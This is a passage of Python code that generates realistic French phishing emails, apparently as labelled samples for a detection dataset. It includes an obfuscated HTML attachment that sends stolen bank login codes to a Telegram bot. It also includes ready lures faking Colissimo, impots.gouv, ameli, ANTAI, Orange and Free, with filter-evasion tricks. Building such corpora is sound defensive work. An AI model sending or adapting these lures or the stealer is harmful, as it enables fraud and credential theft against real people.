    rcpt = "contact@boulangerie-kerherve.fr"
    dom = "cabinet-delmas-avocats.fr"
    sender = f"secretariat@{dom}"
    hop, route = m365_route(name, dom, "cabinetdelmas.onmicrosoft.com", sent)
    a = Auth(sender, dom, "pass", "pass", dom, "selector1", "pass", "quarantine")
    token = f"{digits(name, 'bot', 10)}:AA{alnum(name, 'tok', 33)}"
    inner = f"""<div style="font-family:Arial;max-width:420px;margin:40px auto;border:1px solid #ddd;padding:28px">
<div style="border-left:6px solid #e9041e;padding-left:10px;font-size:20px;font-weight:bold">SOCIETE GENERALE<br><span style="font-size:12px;font-weight:normal">Professionnels</span></div>
<p style="font-size:14px">Pour finaliser le renouvellement de votre <b>Pass Sécurité</b>, identifiez-vous.</p>
<form id="f"><input name="cc" placeholder="Code client" style="width:100%;padding:10px;margin:6px 0">
<input name="cs" type="password" maxlength="6" placeholder="Code secret" style="width:100%;padding:10px;margin:6px 0">
<input name="tel" placeholder="Numéro de mobile" style="width:100%;padding:10px;margin:6px 0">
<button style="background:#e9041e;color:#fff;border:0;padding:12px;width:100%">Valider</button></form></div>
<script>document.getElementById('f').onsubmit=function(e){{e.preventDefault();var d=new FormData(this);
fetch('https://api.telegram.org/bot{token}/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},
body:JSON.stringify({{chat_id:'-100{digits(name, 'chat', 10)}',text:'SG PRO | '+d.get('cc')+' | '+d.get('cs')+' | '+d.get('tel')}})}})
.then(function(){{location.href='https://professionnels.sg.fr/'}});}};</script>"""
    payload = base64.b64encode(inner.encode("utf-8")).decode()
    names = ["atob", "write", "document", "decodeURIComponent", "escape"]
    table = ",".join('"' + "".join(f"\\x{ord(c):02x}" for c in n) + '"' for n in names)
    page = f"""<!DOCTYPE html>
<html lang="fr"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Soci&eacute;t&eacute; G&eacute;n&eacute;rale | Espace Professionnels</title></head>
<body>
<script>
var _0x3c1f=[{table}];
(function(_0x1,_0x2){{var _0x3=function(_0x4){{while(--_0x4){{_0x1.push(_0x1.shift());}}}};_0x3(++_0x2);}}(_0x3c1f,0x0));
var _0xp='{payload}';
window[_0x3c1f[2]][_0x3c1f[1]](window[_0x3c1f[3]](window[_0x3c1f[4]](window[_0x3c1f[0]](_0xp))));
</script>
</body></html>
"""
    plain = """Bonjour,

Veuillez trouver ci-joint le document relatif au renouvellement de votre Pass Sécurité
Société Générale Professionnels. Ouvrez le fichier joint pour finaliser l'activation avant le 17/05/2024,
faute de quoi vos virements et prélèvements seront suspendus.

Cordialement,
Service Clients Professionnels
"""
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">Bonjour,<br><br>
Veuillez trouver ci-joint le document relatif au renouvellement de votre <b>Pass Sécurité Société Générale Professionnels</b>.
Ouvrez le fichier joint pour finaliser l'activation avant le 17/05/2024, faute de quoi vos virements et prélèvements seront suspendus.<br><br>
Cordialement,<br>Service Clients Professionnels</div></body></html>
"""
    subject = "Société Générale Pro : renouvellement de votre Pass Sécurité"
    headers = [
        *std(addr("Societe Generale Professionnels", sender), rcpt, subject, rfc1(sent, "+0000"),
             f"PR3P192MB{hexid(name, 'mid', 28, True)}@PR3P192MB{digits(name, 'mb', 4)}.EURP192.PROD.OUTLOOK.COM", mode="Q"),
        *m365_client_headers(name, dom, sent, subject, attach=True),
    ]
    body = Multi("mixed", f"_004_PR3P192MB{hexid(name, 'bnd', 20, True)}_", [
        Multi("alternative", f"_000_PR3P192MB{hexid(name, 'bnd', 20, True)}_",
              [text(plain), text(html, "html")]),
        attachment("text/html", "SG_PassSecurite_Activation.html", page.encode("utf-8")),
    ])
    return assemble(name, "ovh", rcpt, later(sent, 2), hop, a, route, headers, body, spam="suspect")


@sample("phishing", "b12-colissimo-frais-douane-sendgrid-framer.eml",
        "Colissimo 'colis en attente, frais de douane 1,99 €' sent through a SendGrid account on the throwaway "
        "colis-notification-fr.com (authentication passes for that domain, not laposte.fr) to an sfr.fr address; "
        "the payment link is a framer.website page")
def _(name):
    sent = when("Thu, 14 Mar 2024 08:01:19 +0000")
    rcpt = "m.perrin44@sfr.fr"
    dom = "colis-notification-fr.com"
    uid = digits(name, "sguid", 8)
    env = f"bounces+{uid}-{hexid(name, 'sgb', 4)}-{rcpt.replace('@', '=')}@em{digits(name, 'em', 4)}.{dom}"
    hop = Hop(f"o{digits(name, 'o', 1)}.ptr{digits(name, 'ptr', 4)}.{dom}", f"149.72.{int(hexid(name, 'sgip', 2), 16) % 250}.{int(hexid(name, 'sgip2', 2), 16) % 250}")
    a = Auth(env, dom, "pass", "pass", dom, "s1", "none", "absent", dkim_extra=("sendgrid.info", "smtpapi"))
    colis = f"6A{digits(name, 'colis', 11)}"
    url = f"https://colissimo-suivi-fr.framer.website/?colis={colis}"
    fid = f"filterdrecv-{hexid(name, 'fd', 10)}-{alnum(name, 'fd2', 5).lower()}"
    route = [
        f"Received: by {fid} with SMTP id {fid}-1-{hexid(name, 'fd3', 8, True)}-{hexid(name, 'fd4', 2, True)}\n"
        f"        {sent:%Y-%m-%d %H:%M:%S}.{digits(name, 'ms', 9)} +0000 UTC m=+{digits(name, 'm', 7)}.{digits(name, 'm2', 9)}",
        f"Received: from {uid} (unknown)\n\tby geopod-ismtpd-{int(hexid(name, 'geo', 2), 16) % 40} (SG) with HTTP\n"
        f"\tid {alnum(name, 'sgid', 22)}\n\tThu, 14 Mar 2024 08:01:18.{digits(name, 'ms2', 3)} +0000 (UTC)",
        dkim(name, dom, "s1", sent, "content-transfer-encoding:content-type:from:mime-version:subject:\n\tx-feedback-id:to:cc:content-type:from:subject:to", c="relaxed/relaxed", label="1"),
        dkim(name, "sendgrid.info", "smtpapi", sent, "content-transfer-encoding:content-type:from:mime-version:subject:\n\tx-feedback-id:to:cc:content-type:from:subject:to", label="2"),
    ]
    plain = f"""Colissimo – Votre colis est en attente

Bonjour,

Votre colis n° {colis} est arrivé sur notre plateforme mais ne peut être livré :
des frais d'acheminement et de dédouanement de 1,99 EUR restent à régler.

Sans règlement sous 48 heures, le colis sera retourné à l'expéditeur.

Régler les frais et programmer la livraison : {url}

Colissimo vous remercie de votre confiance.
"""
    html = f"""<html><body style="margin:0;background:#f5f5f5;font-family:Helvetica,Arial,sans-serif">
<table align="center" width="600" style="background:#fff;margin-top:18px" cellpadding="0" cellspacing="0">
<tr><td style="background:#ffd200;padding:14px 22px;font-size:24px;font-weight:bold;color:#00205b">Colissimo</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;line-height:1.5">
<p><b>Votre colis est en attente</b></p>
<p>Bonjour,</p>
<p>Votre colis n° <b>{colis}</b> est arrivé sur notre plateforme mais ne peut être livré : des frais d'acheminement et de dédouanement de <b>1,99&nbsp;€</b> restent à régler.</p>
<p>Sans règlement sous 48 heures, le colis sera retourné à l'expéditeur.</p>
<p style="text-align:center"><a href="{url}" style="background:#00205b;color:#fff;padding:12px 28px;text-decoration:none;border-radius:22px">Programmer ma livraison</a></p>
<p style="font-size:12px;color:#777">Colissimo vous remercie de votre confiance.</p>
</td></tr></table>
<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn={b64(name, 'upn', 80).replace('+', '-').replace('/', '_')}" alt="" width="1" height="1" border="0" style="height:1px!important;width:1px!important">
</body></html>
"""
    headers = [
        *std(addr("Colissimo", f"suivi@{dom}"), rcpt, f"Votre colis {colis} est en attente de livraison", rfc(sent),
             f"{alnum(name, 'mid', 22)}@geopod-ismtpd-{int(hexid(name, 'geo', 2), 16) % 40}"),
        f"X-Feedback-ID: {uid}:SG",
        f"X-SG-EID: =?us-ascii?Q?u001.{b64(name, 'eid', 60).replace('=', '')}?=",
        f"X-SG-ID: =?us-ascii?Q?u001.{b64(name, 'sgidh', 60).replace('=', '')}?=",
        f"X-Entity-ID: u001.{b64(name, 'ent', 22)}==",
    ]
    return assemble(name, "sfr", rcpt, later(sent, 4), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-chronopost-avis-de-passage-qr-pdf.eml",
        "Chronopost 'avis de passage' mailed by PHP from a hacked association WordPress on shared hosting to an "
        "orange.fr address; the attached PDF carries a QR code to a pages.dev kit ('scannez avec votre smartphone') "
        "so the link never appears in the mail")
def _(name):
    sent = when("Fri, 06 Sep 2024 13:27:04 -0500")
    rcpt = "famille.tanguy@orange.fr"
    dom = "jardins-partages-angers.fr"
    host = "gator4182.hostgator.com"
    ip = "192.185.46.112"
    env = f"wordpress@{dom}"
    hop = Hop(host, ip)
    a = Auth(env, dom, "pass", "pass", dom, "default", "none", "absent")
    ref = f"XR{digits(name, 'ref', 9)}FR"
    qr_url = f"https://chronopost-relais-fr.pages.dev/livraison?ref={ref}&t={hexid(name, 't', 8)}"
    pdf = pdf_doc(
        [latin1("Nous sommes passés le 06/09/2024 à 11h42 pour livrer votre colis."),
         latin1("Le destinataire était absent. Le colis est conservé 5 jours ouvrés."),
         "",
         latin1(f"N° d'envoi : {ref}"),
         latin1("Frais de reprogrammation : 2,49 EUR"),
         "",
         latin1("Pour choisir une nouvelle date de livraison ou un point relais,"),
         latin1("scannez le QR code ci-dessous avec l'appareil photo de votre smartphone."),
         "",
         latin1("Sans action de votre part, le colis sera retourné à l'expéditeur.")],
        "Avis de passage Chronopost", producer="mPDF 8.1.4", created="20240906132600-05'00'",
        qr=qr_url, header_lines=["CHRONOPOST", latin1("Avis de passage")])
    route = [
        *cpanel_route(name, host, ip, sent, env, "/home4/jardinsp/public_html/wp-content/plugins/wp-mail-smtp/cache/mail.php"),
        dkim(name, dom, "default", sent, "Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To"),
    ]
    plain = f"""Chronopost

Bonjour,

Nous n'avons pas pu livrer votre colis n° {ref} : le destinataire était absent.

Votre avis de passage est joint à ce message. Pour reprogrammer la livraison,
ouvrez le document et scannez le QR code avec votre smartphone.

Chronopost – Service Clients
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1a1a1a">
<p style="font-size:22px;color:#00355f"><b>Chronopost</b></p>
<p>Bonjour,</p>
<p>Nous n'avons pas pu livrer votre colis n° <b>{ref}</b> : le destinataire était absent.</p>
<p>Votre <b>avis de passage</b> est joint à ce message. Pour reprogrammer la livraison, ouvrez le document et <b>scannez le QR code avec votre smartphone</b>.</p>
<p>Chronopost – Service Clients</p></body></html>
"""
    headers = [
        f"Date: {rfc(sent, '+0000')}",
        f"To: {rcpt}",
        f"From: Chronopost <{env}>",
        f"Subject: {enc('Avis de passage – colis ' + ref + ' non distribué', 'B')}",
        f"Message-ID: <{alnum(name, 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        *cpanel_trailer(host, "jardinsp", dom),
    ]
    body = Multi("mixed", f"b1_{alnum(name, 'b1', 40)}", [
        Multi("alternative", f"b2_{alnum(name, 'b2', 40)}", [text(plain), text(html, "html")]),
        attachment("application/pdf", f"Avis_de_passage_{ref}.pdf", pdf),
    ])
    return assemble(name, "orange", rcpt, later(sent, 5), hop, a, route, headers, body)


@sample("phishing", "b12-leboncoin-paiement-securise-netlify.eml",
        "Leboncoin 'un acheteur a réglé votre article, confirmez pour recevoir 185 €' from a throwaway outlook.fr "
        "mailbox to a free.fr seller; the 'recevoir le paiement' link is a netlify.app card-data form")
def _(name):
    sent = when("Sat, 18 Nov 2023 10:36:52 +0000")
    rcpt = "sandrine.riou@free.fr"
    sender = "lbc.paiement.securise@outlook.fr"
    hop, route = outlook_consumer_route(name, "outlook.fr", sent)
    a = Auth(sender, "outlook.fr", "pass", "pass", "outlook.fr", "selector1", "pass", "none")
    ad = digits(name, "ad", 10)
    url = f"https://leboncoin-paiement-securise.netlify.app/annonce/{ad}/recevoir?m={hexid(name, 'm', 12)}"
    plain = f"""leboncoin

Bonne nouvelle ! Votre article « Poussette Yoyo 2 6+ » a été réglé.

L'acheteur a effectué le paiement de 185,00 € via le Paiement sécurisé leboncoin.
Les fonds sont bloqués sur votre compte vendeur en attendant votre confirmation.

Pour recevoir l'argent sur votre carte bancaire, confirmez la réception du paiement :
{url}

Attention : sans confirmation sous 24 heures, le paiement sera annulé et remboursé à l'acheteur.

L'équipe leboncoin
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {{margin-top:0;margin-bottom:0;}} </style></head>
<body dir="ltr"><div style="font-family:Aptos,Arial,sans-serif;font-size:12pt;color:#1a1a1a">
<div style="color:#ec5a13;font-size:26px;font-weight:bold">leboncoin</div><br>
<b>Bonne nouvelle ! Votre article « Poussette Yoyo 2 6+ » a été réglé.</b><br><br>
L'acheteur a effectué le paiement de <b>185,00 €</b> via le Paiement sécurisé leboncoin. Les fonds sont bloqués sur votre compte vendeur en attendant votre confirmation.<br><br>
<a href="{url}" style="background:#ec5a13;color:#ffffff;padding:12px 22px;border-radius:8px;text-decoration:none;font-weight:bold">Recevoir le paiement</a><br><br>
Attention : sans confirmation sous 24 heures, le paiement sera annulé et remboursé à l'acheteur.<br><br>
L'équipe leboncoin</div></body></html>
"""
    headers = [
        *std(addr("leboncoin Paiement sécurisé", sender), rcpt, "Paiement reçu pour votre annonce « Poussette Yoyo 2 6+ »",
             rfc1(sent, "+0000"), f"PAXP251MB{hexid(name, 'mid', 28, True)}@PAXP251MB{digits(name, 'mb', 4)}.EURP251.PROD.OUTLOOK.COM"),
        "Accept-Language: fr-FR, en-US",
        "Content-Language: fr-FR",
        "X-MS-Has-Attach:",
        f"X-MS-Exchange-Organization-Network-Message-Id: {uuid(name, 'net')}",
    ]
    return assemble(name, "free", rcpt, later(sent, 3), hop, a, route, headers,
                    Multi("alternative", f"_000_PAXP251MB{hexid(name, 'bnd', 24, True)}_", [text(plain), text(html, "html")]))


@sample("phishing", "b12-impots-remboursement-zero-width-ses.eml",
        "impots.gouv 'avis de remboursement 287,43 €' sent through Amazon SES for the non-government domain "
        "dgfip-impots-info.com to a wanadoo.fr taxpayer; subject and body words are broken with zero-width "
        "characters to dodge keyword filters and the link goes to a vercel.app form")
def _(name):
    sent = when("Tue, 21 May 2024 06:55:10 +0000")
    rcpt = "jp.lemarchand@wanadoo.fr"
    dom = "dgfip-impots-info.com"
    hop, route, env = ses_route(name, dom, sent)
    a = Auth(env, dom, "pass", "pass", dom, alnum(name, "sessel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "none", "absent",
             dkim_extra=("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv"))
    url = f"https://remboursement-impots-gouv.vercel.app/particulier/remboursement?dossier={digits(name, 'd', 13)}"
    words = zw("Après les derniers calculs de votre activité fiscale, nous avons déterminé que vous êtes éligible à un remboursement")
    plain = f"""{zw('DIRECTION GÉNÉRALE DES FINANCES PUBLIQUES')}

{words} de 287,43 €.

{zw('Pour recevoir votre remboursement, veuillez compléter le formulaire en ligne')} :
{url}

{zw('Le délai de traitement est de 3 à 5 jours ouvrés. Passé le 31/05/2024, la demande sera annulée.')}

impots.gouv.fr
"""
    html = f"""<html><body style="font-family:Marianne,Arial,sans-serif;font-size:14px;color:#161616">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="border-bottom:3px solid #000091;padding:12px 0">
<b>RÉPUBLIQUE<br>FRANÇAISE</b><br><span style="font-size:11px">Liberté<br>Égalité<br>Fraternité</span></td>
<td style="text-align:right;color:#000091;font-weight:bold">impots.gouv.fr</td></tr>
<tr><td colspan="2" style="padding:20px 0;line-height:1.55">
<p><b>{zw('Avis de remboursement')}</b></p>
<p>{words} de <b>287,43 €</b>.</p>
<p>{zw('Pour recevoir votre remboursement, veuillez compléter le formulaire en ligne')}.</p>
<p><a href="{url}" style="background:#000091;color:#fff;padding:10px 20px;text-decoration:none">{zw('Accéder au formulaire')}</a></p>
<p style="font-size:12px;color:#666">{zw('Le délai de traitement est de 3 à 5 jours ouvrés. Passé le 31/05/2024, la demande sera annulée.')}</p>
</td></tr></table></body></html>
"""
    mid = env.split("@")[0]
    headers = [
        f"Subject: {enc(zw('Avis de remboursement') + ' – ' + zw('Année fiscale') + ' 2023', 'B')}",
        f"From: {addr('impots.gouv.fr', 'remboursement@' + dom)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"Message-ID: <{mid}@email.amazonses.com>",
        f"Date: {rfc(sent)}",
        f"Feedback-ID: ::1.eu-west-1.{b64(name, 'fbid', 43)}=:AmazonSES",
        f"X-SES-Outgoing: 2024.05.21-{hop.ip}",
    ]
    return assemble(name, "wanadoo", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-ameli-carte-vitale-image-only-hidden-text.eml",
        "ameli 'renouvellement obligatoire de votre carte Vitale' whose whole message is one linked PNG (no "
        "readable text) padded with an invisible block of unrelated French filler; from the new-TLD domain "
        "sante-renouvellement.online to an orange.fr address, linking to a square.site page")
def _(name):
    sent = when("Wed, 10 Jan 2024 16:40:33 +0100")
    rcpt = "gerard.pichon29@orange.fr"
    dom = "sante-renouvellement.online"
    sender = f"noreply@{dom}"
    hop = Hop(f"vps-{hexid(name, 'vps', 8)}.vps.ovh.net", "51.75.144.203")
    a = Auth(sender, dom, "pass", "pass", dom, "mail", "none", "absent")
    url = f"https://renouvellement-carte-vitale.square.site/?d={hexid(name, 'd', 10)}"
    png = banner_png(
        [("L'Assurance Maladie", 26, (255, 255, 255)),
         ("Renouvellement de votre carte Vitale", 22, (12, 65, 140)),
         ("Votre carte Vitale arrive en fin de validité.", 17, (40, 40, 40)),
         ("Pour continuer à bénéficier de vos remboursements,", 17, (40, 40, 40)),
         ("commandez dès maintenant votre nouvelle carte.", 17, (40, 40, 40)),
         ("Frais d'envoi sécurisé : 0,99 EUR", 17, (40, 40, 40))],
        (600, 400), (255, 255, 255), bar=(12, 65, 140), button=("Commander ma carte", (232, 92, 20)))
    route = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby {hop.ptr} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}",
        dkim(name, dom, "mail", sent, "Date:From:To:Subject:From"),
    ]
    filler = filler_fr()
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;padding:0">
<div style="display:none;max-height:0;overflow:hidden;font-size:1px;color:#ffffff;line-height:1px">{filler}</div>
<center><a href="{url}"><img src="cid:{hexid(name, 'cid', 12)}@{dom}" width="600" height="400" alt="" style="display:block;border:0"></a></center>
<div style="font-size:0;color:#fefefe;opacity:0">{filler}</div>
</body></html>
"""
    plain = filler + "\n"
    headers = std(addr("Ameli - Assurance Maladie", sender), rcpt, "Votre carte Vitale expire bientôt", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    body = Multi("related", f"=_{hexid(name, 'rel', 32)}", [
        Multi("alternative", f"=_{hexid(name, 'alt', 32)}", [text(plain), text(html, "html")]),
        attachment("image/png", "vitale.png", png, inline=True, cid=f"{hexid(name, 'cid', 12)}@{dom}"),
    ], params=' type="multipart/alternative";')
    return assemble(name, "orange", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("phishing", "b12-antai-avis-contravention-webflow.eml",
        "ANTAI 'avis de contravention, majoration imminente' from a cycling club's hijacked OVH mailbox (SPF/DKIM "
        "pass for cyclo-club-vannetais.fr) to an sfr.fr motorist; pay-now link on webflow.io")
def _(name):
    sent = when("Mon, 23 Sep 2024 05:18:44 +0200")
    rcpt = "julien.bertho@sfr.fr"
    sender = "secretariat@cyclo-club-vannetais.fr"
    hop, route = ovh_route(name, sent, "154.127.58.40", sender)
    sel = f"ovhmo{digits(name, 'sel', 7)}-selector1"
    a = Auth(sender, "cyclo-club-vannetais.fr", "pass", "pass", "cyclo-club-vannetais.fr", sel, "none", "absent")
    avis = digits(name, "avis", 10)
    url = f"https://antai-gouv-paiement.webflow.io/avis?numero={avis}"
    plain = f"""Agence Nationale de Traitement Automatisé des Infractions

AVIS DE CONTRAVENTION – RAPPEL

Numéro de l'avis : {avis}
Infraction : excès de vitesse inférieur à 20 km/h (vitesse retenue 58 km/h pour 50 km/h autorisés)
Date : 02/09/2024 – RN165, Vannes

Montant de l'amende forfaitaire : 35 €
Sans paiement avant le 26/09/2024, l'amende sera majorée à 75 €.

Payer mon amende en ligne : {url}

ANTAI – Ministère de l'Intérieur
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;background:#f6f6f6;margin:0">
<div style="max-width:600px;margin:16px auto;background:#fff;border-top:5px solid #000091">
<div style="padding:16px 22px"><b>RÉPUBLIQUE FRANÇAISE</b> &nbsp;|&nbsp; <span style="color:#000091">ANTAI</span></div>
<div style="padding:0 22px 22px;font-size:14px;line-height:1.5">
<h3 style="color:#000091">Avis de contravention – rappel</h3>
<p>Numéro de l'avis : <b>{avis}</b><br>Infraction : excès de vitesse inférieur à 20 km/h (58 km/h retenus pour 50 km/h autorisés)<br>Date : 02/09/2024 – RN165, Vannes</p>
<p>Montant de l'amende forfaitaire : <b>35 €</b><br>Sans paiement avant le <b>26/09/2024</b>, l'amende sera <b>majorée à 75 €</b>.</p>
<p><a href="{url}" style="background:#000091;color:#fff;padding:11px 22px;text-decoration:none">Payer mon amende</a></p>
<p style="font-size:11px;color:#666">ANTAI – Ministère de l'Intérieur</p></div></div></body></html>
"""
    headers = [
        dkim(name, "cyclo-club-vannetais.fr", sel, sent, "From:Subject:Date:Message-ID:To:MIME-Version:Content-Type"),
        *std(addr("ANTAI - Service Amendes", sender), rcpt, f"Rappel : avis de contravention n°{avis} – majoration imminente",
             rfc(sent), f"{hexid(name, 'mid', 16)}.{hexid(name, 'mid2', 8)}@cyclo-club-vannetais.fr"),
        "User-Agent: Roundcube Webmail/1.6.6",
        *ovh_trailer(name),
    ]
    return assemble(name, "sfr", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-cpf-droits-formation-expirent-mailjet.eml",
        "'Mon Compte Formation : vos 1 500 € de droits CPF expirent' sent via an abused Mailjet account for "
        "droits-formation-cpf.fr (not moncompteformation.gouv.fr) to a laposte.net address, link to a "
        "godaddysites.com page that collects the social security number and FranceConnect login")
def _(name):
    sent = when("Thu, 17 Nov 2022 11:04:27 +0000")
    rcpt = "aurelie.daniel35@laposte.net"
    dom = "droits-formation-cpf.fr"
    env = f"{hexid(name, 'mj1', 8)}.{alnum(name, 'mj2', 12)}@bnc3.mailjet.com"
    hop = Hop(f"o{digits(name, 'mjo', 3)}.p{digits(name, 'mjp', 2)}.mailjet.com", f"87.253.233.{int(hexid(name, 'mjip', 2), 16) % 250}")
    a = Auth(env, dom, "pass", "pass", dom, "mailjet", "none", "absent")
    url = "https://moncompteformation-droits.godaddysites.com/"
    route = [dkim(name, dom, "mailjet", sent, "Message-Id:Date:Subject:From:To:MIME-Version:Content-Type:\n\tList-Unsubscribe")]
    plain = f"""Mon Compte Formation

Madame, Monsieur,

Votre compte CPF présente un solde de 1 500,00 € de droits à la formation.
Suite à la réforme, les droits non utilisés avant le 30/11/2022 seront définitivement perdus.

Vérifiez votre solde et réservez votre formation financée à 100 % :
{url}

Munissez-vous de votre numéro de sécurité sociale.

Caisse des Dépôts – Mon Compte Formation
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<table width="600" align="center"><tr><td style="background:#1e3a78;color:#fff;padding:14px;font-size:20px"><b>Mon Compte Formation</b></td></tr>
<tr><td style="padding:20px;line-height:1.5">
<p>Madame, Monsieur,</p>
<p>Votre compte CPF présente un solde de <b>1 500,00 €</b> de droits à la formation.<br>
Suite à la réforme, les droits non utilisés avant le <b>30/11/2022</b> seront définitivement perdus.</p>
<p><a href="{url}" style="background:#e1000f;color:#fff;padding:12px 24px;text-decoration:none">Vérifier mon solde</a></p>
<p>Munissez-vous de votre numéro de sécurité sociale.</p>
<p style="font-size:11px;color:#777">Caisse des Dépôts – Mon Compte Formation<br>
<a href="https://{hexid(name, 'unsub', 6)}.mjt.lu/unsub2?m={b64(name, 'unsub', 40).replace('+', '').replace('/', '')}" style="color:#777">Se désinscrire</a></p>
</td></tr></table>
<img src="https://{hexid(name, 'unsub', 6)}.mjt.lu/oo/{b64(name, 'open', 60).replace('+', '').replace('/', '')}.gif" height="1" width="1" alt="" border="0" style="height:1px;width:1px;border:0"></body></html>
"""
    headers = [
        f"Message-Id: <{hexid(name, 'mid', 8)}.{alnum(name, 'mid2', 12)}@mailjet.com>",
        f"Date: {rfc1(sent)}",
        f"Subject: {enc('Vos droits CPF de 1 500 € expirent le 30/11', 'Q')}",
        f"From: {addr('Mon Compte Formation', 'info@' + dom)}",
        f"To: {rcpt}",
        f"X-CSA-Complaints: csa-complaints@eco.de",
        f"X-MJ-Mid: {b64(name, 'mjmid', 60).replace('=', '')}",
        f"List-Unsubscribe: <mailto:unsub-{hexid(name, 'lu', 8)}.{alnum(name, 'lu2', 12)}@bnc3.mailjet.com>",
        f"Feedback-Id: 42.{digits(name, 'fb1', 7)}.{digits(name, 'fb2', 7)}:MJ",
        "Precedence: bulk",
    ]
    return assemble(name, "laposte", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html, boundary=f"=-{alnum(name, 'b', 12)}"))


@sample("phishing", "b12-orange-messagerie-quota-firebase.eml",
        "'Orange Messagerie : votre boîte est pleine à 99 %' sent from an Italian hotel's hijacked Roundcube "
        "webmail (SPF pass for hotel-miramare-rimini.it) to an orange.fr user; the login link is on web.app "
        "(Firebase) and pre-fills the victim's address")
def _(name):
    sent = when("Mon, 15 Jan 2024 21:14:09 +0100")
    rcpt = "annie.corre@orange.fr"
    dom = "hotel-miramare-rimini.it"
    sender = f"info@{dom}"
    host = f"webmail.{dom}"
    hop = Hop(f"host{digits(name, 'h', 3)}.serverplan.com", "5.249.164.37", host)
    a = Auth(sender, dom, "pass", "none", "", "", "none", "absent")
    url = f"https://orange-messagerie-fr.web.app/login?mail={rcpt}&ref={hexid(name, 'ref', 8)}"
    route = [
        f"Received: from [197.211.58.14] (helo=webmail.{dom})\n\tby {hop.ptr} with esmtpsa (Exim 4.96)\n"
        f"\t(envelope-from <{sender}>)\n\tid 1rPU{alnum(name, 'ex', 3)}-00{alnum(name, 'ex2', 5)}-{alnum(name, 'ex3', 2)}\n\tfor {rcpt};\n\t{rfc(sent)}",
    ]
    plain = f"""Orange Messagerie

Bonjour {rcpt},

Votre boîte de réception a atteint 99 % de sa capacité de stockage (4,95 Go / 5 Go).
Les nouveaux messages qui vous sont adressés sont actuellement retenus.

Pour libérer de l'espace et recevoir vos messages en attente (17), connectez-vous :
{url}

Orange – Service Messagerie
"""
    html = f"""<html><body style="font-family:Helvetica Neue,Arial,sans-serif;color:#000">
<div style="width:560px;border:1px solid #ddd;margin:auto">
<div style="background:#000;padding:14px"><span style="background:#ff7900;color:#fff;font-weight:bold;padding:10px 12px">orange</span></div>
<div style="padding:20px;font-size:14px;line-height:1.5">
<p><b>Votre boîte de réception est presque pleine</b></p>
<p>Bonjour {rcpt},</p>
<div style="background:#eee;height:14px;width:100%"><div style="background:#cd3c14;height:14px;width:99%"></div></div>
<p>Votre boîte de réception a atteint <b>99&nbsp;%</b> de sa capacité de stockage (4,95 Go / 5 Go). Les nouveaux messages qui vous sont adressés sont actuellement retenus.</p>
<p><a href="{url}" style="background:#ff7900;color:#000;padding:11px 20px;text-decoration:none;font-weight:bold">Libérer de l'espace</a></p>
<p style="font-size:12px;color:#595959">17 messages en attente de distribution.<br>Orange – Service Messagerie</p>
</div></div></body></html>
"""
    headers = [
        f"MIME-Version: 1.0",
        f"Date: {rfc(sent)}",
        f"From: {addr('Orange Messagerie', sender)}",
        f"To: {rcpt}",
        f"Subject: {enc('Alerte : votre boîte Mail Orange est pleine (99 %)', 'Q')}",
        f"Message-ID: <{hexid(name, 'mid', 32)}@{dom}>",
        "X-Sender: " + sender,
        "User-Agent: Roundcube Webmail/1.6.5",
    ]
    return assemble(name, "orange", rcpt, later(sent, 3), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"=_{hexid(name, 'b', 32)}"))


@sample("phishing", "b12-free-zimbra-mot-de-passe-ipfs.eml",
        "'Free Zimbra : votre mot de passe expire aujourd'hui' spoofing no-reply@free.fr in the From header, sent from "
        "a VPS with the envelope zmb-support.com (no SPF record, no DKIM, DMARC fail for free.fr) to a free.fr "
        "subscriber; the link is an IPFS gateway URL with the victim's address in the fragment")
def _(name):
    sent = when("Thu, 08 Jun 2023 04:51:36 +0000")
    rcpt = "m.rousseau72@free.fr"
    hop = Hop("", "194.180.48.61", "mail.zmb-support.com")
    env = "bounce@zmb-support.com"
    a = Auth(env, "free.fr", "none", "none", "", "", "fail", "none")
    cid = "bafybei" + alnum(name, "cid", 52, "abcdefghijklmnopqrstuvwxyz234567")
    url = f"https://ipfs.io/ipfs/{cid}/zimbra-free.html#{rcpt}"
    plain = f"""Zimbra – Free

Bonjour,

Le mot de passe de votre compte {rcpt} expire aujourd'hui.
Afin de conserver l'accès à votre messagerie et éviter la suppression de vos messages,
confirmez votre mot de passe actuel :

{url}

L'équipe Free
"""
    html = f"""<html><body style="font-family:Verdana,sans-serif;font-size:13px">
<table width="520" style="border:1px solid #ccc" cellpadding="14"><tr><td style="background:#cd1e25;color:#fff;font-size:18px"><b>free</b> &middot; Zimbra</td></tr>
<tr><td><p>Bonjour,</p>
<p>Le mot de passe de votre compte <b>{rcpt}</b> expire <b>aujourd'hui</b>.</p>
<p>Afin de conserver l'accès à votre messagerie et éviter la suppression de vos messages, confirmez votre mot de passe actuel.</p>
<p><a href="{url}">Conserver le même mot de passe</a></p>
